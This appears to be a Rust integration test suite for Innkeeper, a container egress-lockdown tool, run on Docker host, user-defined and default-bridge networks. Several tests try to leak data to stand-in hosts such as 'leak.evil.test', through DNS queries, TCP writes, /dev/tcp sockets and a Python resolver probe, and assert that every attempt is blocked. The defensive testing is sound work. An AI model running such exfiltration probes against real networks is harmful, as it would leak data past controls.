//! The box on the networks that Docker makes: the host's own, which it must refuse, a user-defined one with Docker's
//! resolver, and the default bridge.

#[cfg(test)]
#[path = "support/rig.rs"]
mod rig;

#[cfg(test)]
mod bridge {
    use std::fs::File;

    use serde_json::json;

    use crate::rig::{
        AGENT, BoxOptions, ROOT, Rig, RunningBox, World, addresses, host, make_namespace, must, run,
    };

    /// These tests change the host's own rules, or look at them: one at a time.
    fn alone() -> File {
        let lock = File::create(std::env::temp_dir().join("innkeeper-test-host.lock")).unwrap();
        rustix::fs::flock(&lock, rustix::fs::FlockOperation::LockExclusive).unwrap();
        lock
    }

    /// A Docker network of its own whose way out is a world on the same bridge: nothing of it leaves the machine.
    struct Bridge {
        rig: Rig,
        network: String,
        world: World,
        _alone: File,
    }

    impl Bridge {
        fn new() -> Option<Self> {
            let alone = alone();
            let rig = Rig::new()?;
            let network = format!("{}-net", rig.name);
            // At most 15 characters, as interfaces have.
            let pid = std::process::id() % 100_000;
            let (bridge, namespace) = (format!("iwb{pid}"), format!("{}-far", rig.name));
            rig.at_end(&["docker", "network", "rm", &network]);
            let prefix = (1..250).find_map(|number| make_network(&network, &bridge, number)).unwrap();
            let forbid = ["DOCKER-USER", "-i", &bridge, "!", "-o", &bridge, "-j", "DROP"];
            rig.at_end(&[&["iptables", "-D"], &forbid[..]].concat());
            must("iptables", &[&["-I"], &forbid[..]].concat());
            rig.at_end(&["ip", "netns", "del", &namespace]);
            make_namespace(&namespace);
            let peer = format!("iwp{pid}");
            must(
                "ip",
                &["link", "add", "world0", "netns", &namespace, "type", "veth", "peer", "name", &peer],
            );
            must("ip", &["link", "set", &peer, "master", &bridge, "up"]);
            let mut listed = addresses();
            listed["link"]["world_v4"] = json!(format!("{prefix}.2"));
            listed["link"]["box_v4"] = json!(format!("{prefix}.3"));
            listed["link"]["prefix_v4"] = json!(24);
            let listed = rig.file("addresses.json", &listed.to_string());
            let world = World::start_at(&namespace, &rig.dir.join("far"), &listed, |_| {});
            Some(Self { rig, network, world, _alone: alone })
        }

        fn boot(&self, options: &BoxOptions) -> RunningBox {
            let resolver = ["--dns", "9.9.9.53", "--dns-search", "corp.test"];
            self.rig.boot(&options.clone().without_ca().network(&self.network).docker(&resolver))
        }

        /// A command line in a container of this network without Innkeeper.
        fn plainly(&self, command: &str) -> String {
            let image = crate::rig::image();
            let network = ["run", "--rm", "--network", &self.network, "--dns", "9.9.9.53"];
            let shell = ["--entrypoint", "/bin/bash", &image, "-c", command];
            run("docker", &[&network[..], &shell[..]].concat()).both()
        }
    }

    /// The containers' default gateway is the world's address instead of the bridge's own.
    fn make_network(name: &str, bridge: &str, number: u8) -> Option<String> {
        let prefix = format!("10.213.{number}");
        let subnet = format!("{prefix}.0/24");
        let (own, gateway) = (format!("{prefix}.1"), format!("DefaultGatewayIPv4={prefix}.2"));
        let option = format!("com.docker.network.bridge.name={bridge}");
        let addresses = ["--subnet", &subnet, "--gateway", &own, "--aux-address", &gateway];
        let made = run("docker", &[&["network", "create", "-o", &option][..], &addresses, &[name]].concat());
        // Another test's network may have this one.
        assert!(made.ok() || made.err.contains("overlaps"), "{made:?}");
        made.ok().then_some(prefix)
    }

    /// A pause container on Docker's default bridge, whose packets the host hands to a world on that bridge, and nowhere
    /// else: a routing rule for this one address, and a rule in front of Docker's own.
    #[test]
    fn a_box_on_the_default_bridge_keeps_the_policy() {
        let _alone = alone();
        let Some(rig) = Rig::new() else { return };
        let (pause, namespace) = (format!("{}-bridged", rig.name), format!("{}-near", rig.name));
        rig.at_end(&["docker", "rm", "-f", "-v", &pause]);
        let image = crate::rig::image();
        let start = ["run", "-d", "--name", &pause, "--no-healthcheck", "--dns", "9.9.9.53"];
        must("docker", &[&start[..], &["--entrypoint", "/bin/sleep", &image, "infinity"]].concat());
        let inspect = |format: &str| must("docker", &["inspect", "-f", format, &pause]).trim().to_owned();
        let own = inspect("{{.NetworkSettings.IPAddress}}");
        let bits = inspect("{{.NetworkSettings.IPPrefixLen}}");
        // Docker gives its addresses from below.
        let prefix = own.rsplitn(3, '.').last().unwrap();
        let far = format!("{prefix}.255.250");
        if bits != "16" || !run("ip", &["link", "show", "docker0"]).ok() {
            return skip("docker0 has no /16 of its own");
        }
        rig.at_end(&["ip", "netns", "del", &namespace]);
        make_namespace(&namespace);
        let peer = format!("iwd{}", std::process::id() % 100_000);
        must("ip", &["link", "add", "world0", "netns", &namespace, "type", "veth", "peer", "name", &peer]);
        must("ip", &["link", "set", &peer, "master", "docker0", "up"]);
        let mut listed = addresses();
        listed["link"]["world_v4"] = json!(far);
        listed["link"]["box_v4"] = json!(own);
        listed["link"]["prefix_v4"] = json!(16);
        let listed = rig.file("near.json", &listed.to_string());
        let table = (10_000 + std::process::id() % 10_000).to_string();
        rig.at_end(&["ip", "route", "flush", "table", &table]);
        must("ip", &["route", "add", "default", "via", &far, "dev", "docker0", "table", &table]);
        let rule = ["from", &own, "iif", "docker0", "lookup", &table];
        rig.at_end(&[&["ip", "rule", "del"], &rule[..]].concat());
        must("ip", &[&["rule", "add"], &rule[..]].concat());
        let forbid = ["DOCKER-USER", "-s", &own, "!", "-o", "docker0", "-j", "DROP"];
        rig.at_end(&[&["iptables", "-D"], &forbid[..]].concat());
        must("iptables", &[&["-I"], &forbid[..]].concat());
        let world = World::start_at(&namespace, &rig.dir.join("near"), &listed, |_| {});

        let plainly = |command: &str| run("docker", &["exec", &pause, "bash", "-c", command]);
        let control = plainly("getent ahostsv4 control.evil.test; curl -sS -m 5 http://45.33.32.66/");
        assert!(control.out.contains("token-45.33.32.66"), "{control:?}");
        assert!(world.asked().contains(&"control.evil.test".to_owned()));
        let guest = rig.boot(&BoxOptions::new().without_ca().network(&format!("container:{pause}")));
        let page = guest.exec_agent("curl -sS -m 10 http://ok.test/");
        assert!(page.out.contains(&format!("token-{}", host("ok"))), "{page:?}");
        let mark = world.sync();
        for user in [AGENT, ROOT] {
            for server in ["8.8.8.8", "9.9.9.53"] {
                let denied = guest.client(user, &["dns", server, "leak.evil.test"]);
                assert_eq!(denied.out, "NXDOMAIN\n", "{server} as {user}: {denied:?}");
            }
            assert!(!guest.client(user, &["tcp", &host("evil"), "80", "leak"]).ok());
            // The host, from the bridge.
            assert!(!guest.client(user, &["ping", &format!("{prefix}.0.1"), "leak"]).ok());
        }
        let packets = world.packets_since(mark);
        let of_the_box = packets.iter().filter(|packet| packet["src"] == own.as_str());
        assert!(
            of_the_box.clone().all(|packet| packet["dst"] == "9.9.9.53" || packet["dst"] == host("ok")),
            "{packets:?}"
        );
        assert!(!world.saw("leak"));
        drop(world);
    }

    fn skip(why: &str) {
        use std::io::Write;
        assert!(std::env::var_os("CI").is_none(), "CI must run this: {why}");
        std::io::stderr().write_all(format!("SKIPPED: {why}\n").as_bytes()).unwrap();
    }

    /// The port on which Docker's resolver listens really, from the box's socket table.
    const ENGINE_PORT: &str = "awk '$2 ~ /^0B00007F:/ { split($2, a, \":\"); print a[2] }' /proc/net/udp";

    #[test]
    fn t200_t202_a_user_defined_network_with_dockers_resolver() {
        let Some(bridge) = Bridge::new() else { return };
        let control = bridge.plainly(
            "cat /etc/resolv.conf; getent ahostsv4 control.evil.test; curl -sS -m 5 http://45.33.32.66/",
        );
        assert!(control.contains("127.0.0.11") && control.contains("token-45.33.32.66"), "{control}");
        assert!(bridge.world.asked().contains(&"control.evil.test".to_owned()), "{control}");

        let guest = bridge.boot(&BoxOptions::new());
        let status = guest.status();
        assert!(
            status["dns"]["upstreams"][0]["address"].to_string().contains("127.0.0.11"),
            "{}",
            status["dns"]
        );
        assert!(status["warnings"].to_string().contains("uid-0"), "{}", status["warnings"]);
        let page = guest.exec_agent("curl -sS -m 10 http://ok.test/");
        assert!(page.out.contains(&format!("token-{}", host("ok"))), "{page:?}");
        let engine = u16::from_str_radix(guest.exec_root(ENGINE_PORT).out.trim(), 16).unwrap();
        let mark = bridge.world.sync();
        let real_port = format!("127.0.0.11@{engine}");
        // Root may ask outside here: that is the price of the engine's own forwarding, and `status` says so.
        for user in [AGENT, "903", "65534"] {
            for server in ["127.0.0.11", "8.8.8.8", "127.0.0.53"] {
                for transport in ["udp", "tcp"] {
                    let denied = guest.client(user, &["dns", server, "leak.evil.test", "A", transport]);
                    assert_eq!(denied.out, "NXDOMAIN\n", "{server} {transport} as {user}: {denied:?}");
                }
            }
        }
        let direct = guest.client(AGENT, &["dns", &real_port, "leak.evil.test"]);
        assert!(!direct.ok(), "{direct:?}");
        assert!(!guest.as_session("getent hosts leaksecret").ok());
        assert!(!guest.client(AGENT, &["tcp", &host("evil"), "80", "GET / HTTP/1.0\r\n\r\n"]).ok());
        // Neighbours and the host are not allowed either.
        let gateway = guest
            .exec_root("ip -4 route show default 2>/dev/null || awk '$2 == \"00000000\"' /proc/net/route")
            .out;
        assert!(!gateway.is_empty());
        let packets = bridge.world.packets_since(mark);
        assert!(!bridge.world.saw("leak"), "{:?}", bridge.world.asked());
        assert!(
            packets.iter().all(|packet| packet["dst"] == "9.9.9.53" || packet["dst"] == host("ok")),
            "{packets:?}"
        );
        // No storm: what the engine asks comes out, and does not come back to us.
        assert!(packets.len() < 200, "{}", packets.len());
    }

    /// Asks Docker's resolver on the port that it really has, and on 53.
    const ASK_ENGINE: &str = r#"
import socket, struct
question = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\x04SIGN\x04evil\x04test\0\0\1\0\1"
def ports(table):
    lines = [line.split() for line in open("/proc/net/" + table)]
    return [int(line[1].split(":")[1], 16) for line in lines if line[1].startswith("0B00007F:")]
for port in ports("udp"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        try:
            s.sendto(question, ("127.0.0.11", port))
            print("udp answered", s.recv(999)[3] & 15)
        except OSError as error:
            print("udp", error.__class__.__name__)
for port in ports("tcp"):
    with socket.socket() as s:
        s.settimeout(2)
        try:
            s.connect(("127.0.0.11", port))
            s.sendall(struct.pack("!H", len(question)) + question)
            print("tcp answered", s.recv(999)[5] & 15)
        except OSError as error:
            print("tcp", error.__class__.__name__)
"#;

    #[test]
    fn t200_the_engines_resolver_is_the_workers_alone_on_its_real_port_too() {
        let Some(bridge) = Bridge::new() else { return };
        let ask = |sign: &str| format!("python3 - <<'END'\n{}\nEND", ASK_ENGINE.replace("SIGN", sign));
        let control = bridge.plainly(&ask("ctrl"));
        assert!(control.contains("udp answered 0") && control.contains("tcp answered 0"), "{control}");
        assert!(bridge.world.asked().contains(&"ctrl.evil.test".to_owned()));
        let guest = bridge.boot(&BoxOptions::new());
        for user in [AGENT, "65534", ROOT] {
            let said = guest.exec(user, &ask("leak")).both();
            assert!(
                said.contains("udp ") && said.contains("tcp ") && !said.contains("answered"),
                "{user}: {said}"
            );
        }
        let said = guest.as_session(&ask("leak")).both();
        assert!(said.contains("udp ") && !said.contains("answered"), "{said}");
        assert!(!bridge.world.saw("leak"), "{:?}", bridge.world.asked());
        assert!(guest.client(AGENT, &["dns", "127.0.0.11", "ok.test"]).out.contains(&host("ok")));
    }

    #[test]
    fn t202_the_engines_own_forwarding_goes_out_and_does_not_come_back() {
        let Some(bridge) = Bridge::new() else { return };
        let guest = bridge.boot(&BoxOptions::new().allow("ok.test:80;*.wild.test:80"));
        let before = bridge.world.asked().len();
        for number in 0..20 {
            let said = guest.client(AGENT, &["dns", "127.0.0.53", &format!("n{number}.wild.test")]);
            assert_eq!(said.out.trim(), format!("NOERROR {}", host("ok")));
        }
        let asked = bridge.world.asked().split_off(before);
        for number in 0..20 {
            let count = asked.iter().filter(|name| **name == format!("n{number}.wild.test")).count();
            assert!((1..=4).contains(&count), "n{number}: {count}");
        }
        // Others that forward, as any uid but the engine's, meet us.
        for user in [AGENT, "65534"] {
            assert_eq!(guest.client(user, &["dns", "9.9.9.53", "leak.evil.test"]).out, "NXDOMAIN\n");
        }
        assert!(!bridge.world.saw("leak"));
    }

    #[test]
    fn f11_a_restart_with_dockers_resolver_finds_it_again() {
        let Some(bridge) = Bridge::new() else { return };
        let guest = bridge.boot(&BoxOptions::new());
        let first = guest.status();
        guest.restart();
        assert_eq!(guest.status()["dns"]["upstreams"], first["dns"]["upstreams"]);
        assert!(guest.exec_agent("curl -sS -m 10 http://ok.test/").out.contains("token-"));
        assert_eq!(guest.client(AGENT, &["dns", "127.0.0.11", "leak.evil.test"]).out, "NXDOMAIN\n");
        assert!(!bridge.world.saw("leak"));
    }

    #[test]
    fn t33_neighbours_on_the_bridge_and_the_host_are_out_of_reach() {
        let Some(bridge) = Bridge::new() else { return };
        let neighbour = format!("{}-neighbour", bridge.rig.name);
        let image = crate::rig::image();
        let serve = "import socket\ns = socket.create_server(('', 8888))\nwhile True:\n c, _ = s.accept(); c.sendall(b'neighbour'); c.close()";
        bridge.rig.at_end(&["docker", "rm", "-f", &neighbour]);
        let start = ["run", "-d", "--name", &neighbour, "--network", &bridge.network];
        must("docker", &[&start[..], &["--entrypoint", "/usr/bin/python3", &image, "-c", serve]].concat());
        let format = format!("{{{{ (index .NetworkSettings.Networks \"{}\").IPAddress }}}}", bridge.network);
        let address = must("docker", &["inspect", "-f", &format, &neighbour]).trim().to_owned();
        let read =
            format!("for i in $(seq 50); do curl -s -m 2 --http0.9 http://{address}:8888/ && break; done");
        let met = bridge.plainly(&read);
        assert!(met.contains("neighbour"), "{met}");
        assert!(knock_from_host(&address), "the host reaches who is on its bridge");
        let guest = bridge.boot(&BoxOptions::new());
        let own = must("docker", &["inspect", "-f", &format, &guest.name]).trim().to_owned();
        for user in [AGENT, ROOT] {
            assert!(!guest.client(user, &["tcp", &address, "8888", "leak"]).ok());
            // The host, on the bridge's own address.
            let gateway = format!("{}.1", address.rsplit_once('.').unwrap().0);
            assert!(!guest.client(user, &["tcp", &gateway, "22", "leak"]).ok());
            assert!(!guest.client(user, &["ping", &gateway, "leak"]).ok());
        }
        // Nor do they get in: the agent listens, and only the box itself is answered.
        let mut listener = guest.spawn(AGENT, &["python3", "-uc", &format!("print('up')\n{serve}")]);
        assert_eq!(listener.hear(), "up");
        guest.await_answer("curl -s -m 2 --http0.9 http://127.0.0.1:8888/; true", "neighbour");
        let knock = format!("curl -s -m 2 --http0.9 http://{own}:8888/; true");
        assert_eq!(run("docker", &["exec", &neighbour, "bash", "-c", &knock]).out, "");
        assert!(!knock_from_host(&own), "the host gets in");
    }

    fn knock_from_host(address: &str) -> bool {
        run("timeout", &["3", "bash", "-c", &format!("exec 3<>/dev/tcp/{address}/8888")]).ok()
    }

    /// The host's packet filter without its counters.
    fn host_rules() -> (String, String, String) {
        let rules = must("nft", &["-s", "list", "ruleset"]);
        let saved = |program: &str| {
            let text = run(program, &[]).out;
            text.lines()
                .filter(|line| !line.starts_with('#') && !line.starts_with(':'))
                .collect::<Vec<_>>()
                .join("\n")
        };
        (rules, saved("iptables-save"), saved("ip6tables-save"))
    }

    #[test]
    fn t205_the_hosts_own_network_is_refused_and_untouched() {
        let _alone = alone();
        let Some(rig) = Rig::new() else { return };
        // Should it ever be touched, the machine must not stay cut off.
        rig.at_end(&["nft", "delete", "table", "inet", "innkeeper"]);
        let resolv = std::fs::read_to_string("/etc/resolv.conf").unwrap();
        let before = host_rules();
        for further in [&[][..], &["--pid", "host"], &["--init"]] {
            let guest = rig.start(&BoxOptions::new().network("host").docker(further).args(&["init"]));
            assert_eq!(guest.exit_code(), 78, "{further:?}: {}", guest.logs());
            let logs = guest.logs();
            assert!(logs.contains("--network host") && logs.contains("next: "), "{further:?}: {logs}");
            assert!(!logs.contains("lockdown ok"), "{further:?}: {logs}");
            assert_eq!(host_rules(), before, "{further:?}");
        }
        assert_eq!(std::fs::read_to_string("/etc/resolv.conf").unwrap(), resolv);
        // The giving up of a shared network does not extend to the host's.
        let insisting = BoxOptions::new().network("host").env("INNKEEPER_BOOT_ACCEPT", "shared-network");
        let guest = rig.start(&insisting);
        assert_eq!(guest.exit_code(), 78, "{}", guest.logs());
        assert_eq!(host_rules(), before);
        assert!(!before.0.contains("table inet innkeeper"));
    }

    #[test]
    fn t205_a_namespace_in_which_others_are_routed_is_refused_unless_accepted() {
        let Some(rig) = Rig::new() else { return };
        rig.inside("ip link add br-others type bridge").expect("a bridge in the box's network");
        let rules = || rig.inside("nft -s list ruleset").expect("the rules");
        let before = rules();
        let guest = rig.start(&BoxOptions::new());
        assert_eq!(guest.exit_code(), 78, "{}", guest.logs());
        assert!(guest.logs().contains("br-others"), "{}", guest.logs());
        assert_eq!(rules(), before);
        let accepted = rig.boot(&BoxOptions::new().env("INNKEEPER_BOOT_ACCEPT", "shared-network"));
        assert!(accepted.status()["warnings"].to_string().contains("br-others"));
    }

    #[test]
    fn f27_rules_of_others_in_the_same_namespace_stay_as_they_were() {
        let Some(rig) = Rig::new() else { return };
        let others = "nft add table inet others; nft add chain inet others c '{ type filter hook output priority 0; }'; \
                      nft add rule inet others c tcp dport 4242 counter; iptables -t nat -A OUTPUT -d 127.0.0.99 -j RETURN; \
                      iptables -A OUTPUT -p tcp --dport 4243 -j ACCEPT";
        rig.inside(others).expect("rules of others");
        let theirs = || {
            let tables = ["inet others", "ip nat", "ip filter"];
            tables.map(|table| rig.inside(&format!("nft -s list table {table}")).expect(table))
        };
        let before = theirs();
        let evil = ["tcp", &host("evil"), "443", "leak"];
        assert!(rig.outside(&evil).ok());
        let guest = rig.boot(&BoxOptions::new());
        assert_eq!(theirs(), before);
        assert!(!guest.client(AGENT, &evil).ok());
        guest.innkeeper(&["reload"]).expect("reload");
        guest.stop();
        assert_eq!(theirs(), before);
        // What a box leaves behind is closed, not open.
        assert!(!rig.outside(&evil).ok(), "after the box the network is still closed");
    }
}
